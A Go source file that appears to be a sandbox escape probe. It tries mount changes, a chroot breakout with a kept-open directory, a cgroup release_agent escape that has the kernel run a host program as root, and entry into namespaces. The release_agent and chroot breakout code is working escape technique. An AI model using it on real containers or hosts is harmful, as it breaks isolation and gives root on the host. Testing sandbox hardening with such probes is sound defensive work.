//go:build linux

package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// mountAttempts change what is mounted where. args[0] is a directory that exists.
func mountAttempts() map[string]try {
	mount := func(fstype string) try {
		return func(args []string) (bool, string) { return worked(unix.Mount("none", arg(args, 0), fstype, 0, "")) }
	}
	return map[string]try{
		"mount-tmpfs": mount("tmpfs"), "mount-proc": mount("proc"), "mount-sysfs": mount("sysfs"), "mount-cgroup2": mount("cgroup2"),
		"mount-devpts": mount("devpts"), "mount-mqueue": mount("mqueue"),
		"mount-bind": func(args []string) (bool, string) {
			return worked(unix.Mount("/", arg(args, 0), "", unix.MS_BIND, ""))
		},
		"mount-remount": func([]string) (bool, string) {
			return worked(unix.Mount("", "/", "", unix.MS_REMOUNT|unix.MS_BIND, ""))
		},
		"mount-unmask": func([]string) (bool, string) { return worked(unix.Unmount("/proc", unix.MNT_DETACH)) },
		"mount-propagation": func([]string) (bool, string) {
			return worked(unix.Mount("", "/", "", unix.MS_SHARED, ""))
		},
		"mount-new-api":    newMount,
		"mount-clone-tree": cloneTree,
		"mount-attributes": func([]string) (bool, string) {
			attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY | unix.MOUNT_ATTR_NOSUID}
			return worked(unix.MountSetattr(unix.AT_FDCWD, "/", 0, &attr))
		},
		"chroot":        func(args []string) (bool, string) { return worked(unix.Chroot(arg(args, 0))) },
		"chroot-out":    chrootOut,
		"release-agent": releaseAgent,
		"cgroup-write":  cgroupWrite,
	}
}

// newMount mounts a tmpfs by file descriptors.
func newMount(args []string) (bool, string) {
	fs, err := unix.Fsopen("tmpfs", 0)
	if err != nil {
		return worked(fmt.Errorf("fsopen: %w", err))
	}
	if err := unix.FsconfigCreate(fs); err != nil {
		return worked(fmt.Errorf("fsconfig: %w", err))
	}
	m, err := unix.Fsmount(fs, 0, 0)
	if err != nil {
		return worked(fmt.Errorf("fsmount: %w", err))
	}
	return worked(unix.MoveMount(m, "", unix.AT_FDCWD, arg(args, 0), unix.MOVE_MOUNT_F_EMPTY_PATH))
}

// cloneTree makes a writable copy of the root mount without ever attaching it.
func cloneTree([]string) (bool, string) {
	fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
	if err != nil {
		return worked(err)
	}
	return worked(unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
}

// chrootOut is the classic way out of a bare chroot: a second one below, with a directory kept open.
func chrootOut(args []string) (bool, string) {
	out, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return worked(err)
	}
	if err := unix.Chroot(arg(args, 0)); err != nil {
		return worked(err)
	}
	return worked(unix.Fchdir(out))
}

// releaseAgent has the kernel run args[1], a path of the host, as root when a cgroup of a hierarchy of its own is empty.
// The proof is the file args[2].
func releaseAgent(args []string) (bool, string) {
	dir, agent, proof := arg(args, 0), arg(args, 1), arg(args, 2)
	if err := unix.Mount("none", dir, "cgroup", 0, "none,"+hierarchy); err != nil {
		return worked(fmt.Errorf("mount cgroup: %w", err))
	}
	defer dissolve(dir)
	group := filepath.Join(dir, "group")
	if err := os.Mkdir(group, 0o755); err != nil {
		return worked(err)
	}
	defer os.Remove(group)
	for _, w := range [][2]string{{dir + "/release_agent", agent}, {group + "/notify_on_release", "1"}} {
		if err := os.WriteFile(w[0], []byte(w[1]), 0); err != nil {
			return worked(err)
		}
	}
	c, end, err := victim()
	if err != nil {
		return worked(err)
	}
	if err := os.WriteFile(group+"/cgroup.procs", fmt.Append(nil, c.Process.Pid), 0); err != nil {
		return worked(err)
	}
	end()
	return appears(proof)
}

// hierarchy is the name of the throw-away hierarchy.
const hierarchy = "name=toolcell-escape"

// dissolve unmounts the hierarchy until the kernel gives it up. That it does at an unmount only, and only when the last
// group has been freed, which is some time after rmdir (cgroup_kill_sb, kernel/cgroup/cgroup.c).
func dissolve(dir string) {
	for range 100 {
		_ = unix.Unmount(dir, unix.MNT_DETACH)
		b, err := os.ReadFile("/proc/self/cgroup")
		if err != nil || !strings.Contains(string(b), hierarchy) {
			return
		}
		time.Sleep(20 * time.Millisecond)
		_ = unix.Mount("none", dir, "cgroup", 0, "none,"+hierarchy)
	}
}

// appears waits a little for a file.
func appears(p string) (bool, string) {
	for range 100 {
		if _, err := os.Stat(p); err == nil {
			return true, p + " appeared"
		}
		time.Sleep(20 * time.Millisecond)
	}
	return false, p + " did not appear"
}

// cgroupWrite makes a cgroup in any hierarchy it can find.
func cgroupWrite([]string) (bool, string) {
	dirs, err := filepath.Glob("/sys/fs/cgroup/*")
	if err != nil {
		return worked(err)
	}
	for _, d := range append(dirs, "/sys/fs/cgroup") {
		made := filepath.Join(d, "toolcell-escape")
		if _, err := os.Stat(filepath.Join(d, "cgroup.procs")); err != nil || os.Mkdir(made, 0o755) != nil {
			continue
		}
		return true, made + fmt.Sprint(", removed again: ", os.Remove(made))
	}
	return false, "no hierarchy to write to"
}

// namespaceAttempts make or enter namespaces.
func namespaceAttempts() map[string]try {
	return map[string]try{
		"userns-clone":   startIn(&syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER}, "ok"),
		"userns-unshare": startIn(&syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWUSER}, "ok"),
		"userns-mount": startIn(&syscall.SysProcAttr{
			Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS,
			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		}, "mount-tmpfs", "/tmp"),
		"userns-clone3":  clone3User,
		"unshare-mount":  startIn(&syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS}, "ok"),
		"unshare-net":    startIn(&syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNET}, "ok"),
		"unshare-ipc":    startIn(&syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWIPC}, "ok"),
		"unshare-pid":    startIn(&syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWPID}, "ok"),
		"unshare-uts":    startIn(&syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUTS}, "ok"),
		"unshare-cgroup": startIn(&syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWCGROUP}, "ok"),
		"unshare-time":   startIn(&syscall.SysProcAttr{Unshareflags: unix.CLONE_NEWTIME}, "ok"),
		"setns-own":      enter("/proc/self/ns/net", unix.CLONE_NEWNET),
		"setns-init":     enter("/proc/1/ns/net", unix.CLONE_NEWNET),
	}
}

// startIn starts this program again with attr.
func startIn(attr *syscall.SysProcAttr, args ...string) try {
	return func([]string) (bool, string) {
		c := exec.Command("/proc/self/exe", args...)
		c.SysProcAttr = attr
		out, err := c.CombinedOutput()
		if err != nil {
			return false, fmt.Sprintf("%v: %s", err, out)
		}
		ok := strings.Contains(string(out), "ok\n") || strings.Contains(string(out), `"success":true`)
		return ok, strings.TrimSpace(string(out))
	}
}

// enter enters the namespace behind path.
func enter(path string, kind int) try {
	return func([]string) (bool, string) {
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return worked(err)
		}
		runtime.LockOSThread()
		return worked(unix.Setns(fd, kind))
	}
}

// clone3User starts a child in a user namespace by the newer call. The child ends at once.
func clone3User([]string) (bool, string) {
	args := [8]uint64{0: unix.CLONE_NEWUSER, 4: uint64(unix.SIGCHLD)} // struct clone_args: flags, ..., exit_signal
	runtime.LockOSThread()
	pid, _, errno := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args)), unsafe.Sizeof(args), 0)
	if errno == 0 && pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	if errno != 0 {
		return false, errno.Error()
	}
	var ws unix.WaitStatus
	_, err := unix.Wait4(int(pid), &ws, 0, nil)
	return worked(err)
}
